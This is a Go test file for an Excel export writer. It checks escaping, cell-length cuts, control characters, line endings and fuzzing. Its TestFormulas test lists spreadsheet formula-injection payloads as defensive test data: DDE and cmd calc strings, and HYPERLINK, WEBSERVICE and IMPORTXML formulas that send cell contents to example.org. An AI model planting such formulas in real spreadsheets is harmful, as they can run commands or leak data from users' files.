package excel

import (
	"cmp"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"

	"signins/schema"
	"signins/writer/manifest"
)

// textRow writes one row of the user agent column for each text and returns
// what a reader gets.
func textRow(t *testing.T, texts ...string) (*Writer, []string) {
	t.Helper()
	x, book := writeExcel(t, nil, excelBatch(len(texts), func(row int, c *[schema.NumColumns]schema.Vector) {
		c[schema.UserAgent].SetText(row, texts[row])
	}))
	var read []string
	for _, row := range book.sheets[SignInSheet].table() {
		read = append(read, row["User agent"].text)
	}
	return x, read
}

// TestFormulas writes texts that spreadsheets and their attackers use as formulas
// into every text column: all of them stay text, and the reader of the
// tests refuses any formula or relation.
func TestFormulas(t *testing.T) {
	t.Parallel()
	payloads := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"a\")",
		`=HYPERLINK("http://example.org/?x="&A1,"click")`, `=WEBSERVICE("http://example.org/")`, "http://example.org/", `=IMPORTXML(CONCAT("http://example.org/",A1),"//a")`,
		"@import", "＝1+1", "'=1+1", `"=1+1`, "%0A=1+1", "{=1+1}", "mailto:a@example.org", `\\host\share`,
	}
	b := excelBatch(len(payloads), func(row int, c *[schema.NumColumns]schema.Vector) {
		for id, column := range schema.Columns {
			switch {
			case column.Kind == schema.TextList:
				c[id].SetBytes(row, schema.AppendList(nil, []byte(payloads[row]), false))
			case column.Kind.Coded():
				c[id].SetText(row, payloads[row])
			}
		}
		c[schema.ErrorCode].SetNum(row, int64(row))
	})
	run := &manifest.Run{Skipped: []schema.Skipped{{Path: payloads[0], Reason: payloads[1]}}}
	for _, p := range payloads {
		run.Inputs = append(run.Inputs, &manifest.Input{Path: p, Dialect: p, Warnings: []manifest.Warning{{Code: p, Count: 1, Message: p}}})
	}
	_, book := writeExcel(t, run, b)
	for row, cells := range book.sheets[SignInSheet].table() {
		for _, column := range schema.Columns {
			if cell := cells[column.Title]; column.Kind.Coded() && (cell.text != payloads[row] || !cell.isText) {
				t.Errorf("%s: %+v, want %q", column.Name, cell, payloads[row])
			}
		}
	}
}

// TestCellLimit cuts texts that are too long, marks how much is missing and
// counts it.
func TestCellLimit(t *testing.T) {
	t.Parallel()
	long, emoji := strings.Repeat("a", 40000), strings.Repeat("😀", 20000)
	fits, emojiFits := strings.Repeat("a", maxCellUnits), "a"+strings.Repeat("😀", maxCellUnits/2)
	x, read := textRow(t, long, emoji, "b"+emoji, fits, emojiFits, "b"+fits, long)
	if x.Cut() != 5 || x.Escaped() != 0 {
		t.Errorf("cut %d, escaped %d", x.Cut(), x.Escaped())
	}
	if read[3] != fits || read[4] != emojiFits {
		t.Error("text that fits was changed")
	}
	for i, source := range map[int]string{0: long, 1: emoji, 2: "b" + emoji, 5: "b" + fits, 6: long} {
		t.Run(strconv.Itoa(i), func(t *testing.T) {
			kept, mark, found := strings.Cut(read[i], " … [cut: ")
			missing, err := strconv.Atoi(strings.TrimSuffix(mark, " characters]"))
			if !found || err != nil || !strings.HasPrefix(source, kept) {
				t.Fatalf("ends in %q", read[i][len(read[i])-60:])
			}
			if n := len([]rune(kept)) + missing; n != len([]rune(source)) {
				t.Errorf("accounts for %d characters", n)
			}
			if units := len(utf16.Encode([]rune(read[i]))); units > maxCellUnits || units < maxCellUnits-4 {
				t.Errorf("%d UTF-16 units", units)
			}
		})
	}
}

// TestControlCharacters escapes what XML cannot hold, visibly, and counts
// it.
func TestControlCharacters(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		"a\x00b":               `a\u0000b`,
		"\x01\x08\x0b\x0c\x1f": `\u0001\u0008\u000B\u000C\u001F`,
		"\uFFFE\uFFFF":         `\uFFFE\uFFFF`,
		"bad \xff\xc3 utf-8":   `bad \xFF\xC3 utf-8`,
		"\xed\xa0\x80":         `\xED\xA0\x80`,
	} {
		t.Run(want, func(t *testing.T) {
			x, read := textRow(t, source, source, "clean")
			if read[0] != want || read[1] != want {
				t.Errorf("%q", read)
			}
			if x.Escaped() != 2 || x.Cut() != 0 {
				t.Errorf("escaped %d, cut %d", x.Escaped(), x.Cut())
			}
		})
	}
	clean := "\ttab \uFFFD \u007f \u0085 \u2028 \U0010FFFF"
	if x, read := textRow(t, clean); read[0] != clean || x.Escaped() != 0 {
		t.Errorf("%q: escaped %d", read[0], x.Escaped())
	}
}

// TestEscapedAndCut does not cut inside an escape and counts an escape only
// where it is still there.
func TestEscapedAndCut(t *testing.T) {
	t.Parallel()
	x, read := textRow(t, strings.Repeat("\x00", 10000), strings.Repeat("a", 40000)+"\x00")
	if x.Cut() != 2 || x.Escaped() != 1 {
		t.Errorf("cut %d, escaped %d", x.Cut(), x.Escaped())
	}
	kept, _, _ := strings.Cut(read[0], " … ")
	if strings.Trim(strings.ReplaceAll(kept, `\u0000`, ""), "") != "" {
		t.Errorf("ends in %q", kept[len(kept)-12:])
	}
}

// TestLiteralEscapes keeps text that reads like the escapes of the format.
// excelize would drop the second of two that share an underscore, and surrogates.
func TestLiteralEscapes(t *testing.T) {
	t.Parallel()
	texts := []string{
		"_x0041_", "a_x0041_b", "_x0041_x0042_", "_x0041__x0042_", "_xD800_", "a_xDFFF_b", "_x005F_x0041_", "_x005F_", "_x005f_x005f_x0041_",
		"_x000D_", "_x41_", "_x4_", "_x00041_", "_x_", "_x004g_", "__x0041_", "_x0041", "_X0041_", "eyJ_xAb_cd", "_x000D_\r\n<&>\"' ", " _x0041_ ",
	}
	if x, read := textRow(t, texts...); !slices.Equal(read, texts) || x.Escaped() != 0 {
		t.Errorf("read %q, escaped %d", read, x.Escaped())
	}
}

// TestAnyText writes random texts of the characters that matter.
func TestAnyText(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(1, 1))
	parts := []string{"_", "_", "x", "x", "_x", "0", "4", "1", "D8", "005F", "000D", "\r", "\n", "\t", " ", "&", "<", `"`, "😀", "ä"}
	texts := make([]string, 3000)
	for i := range texts {
		for range 1 + r.IntN(16) {
			texts[i] += parts[r.IntN(len(parts))]
		}
	}
	_, read := textRow(t, texts...)
	for i := range texts {
		if read[i] != texts[i] {
			t.Errorf("%q: read %q", texts[i], read[i])
		}
	}
}

// TestLineEnds keeps all line ends: XML readers make bare CR and CR LF
// LF.
func TestLineEnds(t *testing.T) {
	t.Parallel()
	texts := []string{"a\r\nb", "a\rb", "a\nb", "\r", "\r\n", "\n", "a\n\r\nb\r", " \t\r\n"}
	if _, read := textRow(t, texts...); !slices.Equal(read, texts) {
		t.Errorf("read %q", read)
	}
}

// Each byte that XML escapes is escaped, also where it is the only one of a text.
func TestEachByteIsEscaped(t *testing.T) {
	t.Parallel()
	for c, escape := range xmlEscapes {
		text := "a" + string(rune(c))
		if c == '_' {
			text += "x0041_" // else it stays
		}
		want := strings.Replace(text, string(rune(c)), cmp.Or(escape, string(rune(c))), 1)
		if got := string(appendXML(nil, []byte(text))); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// FuzzText writes any text into cells: a reader gets the text, or the
// cell is counted as cut or escaped.
func FuzzText(f *testing.F) {
	for _, seed := range append(randomTexts, "_x0041_x0042_", "_xD800_", "a\r\nb", "\x00", "\xff", "_x005F_x0041_", "]]>") {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		fitted, mark := fitCell([]byte(text))
		var read string
		mustUnmarshal(t, appendT(nil, fitted), &read)
		if read = decodeCell(read); (read != text) != (mark != (cellMark{})) {
			t.Errorf("%q: read %q, cut %v, escaped %v", text, read, mark.cut, mark.escaped)
		}
		if units := len(utf16.Encode([]rune(read))); units > maxCellUnits {
			t.Errorf("%q: %d UTF-16 units", text, units)
		}
	})
}
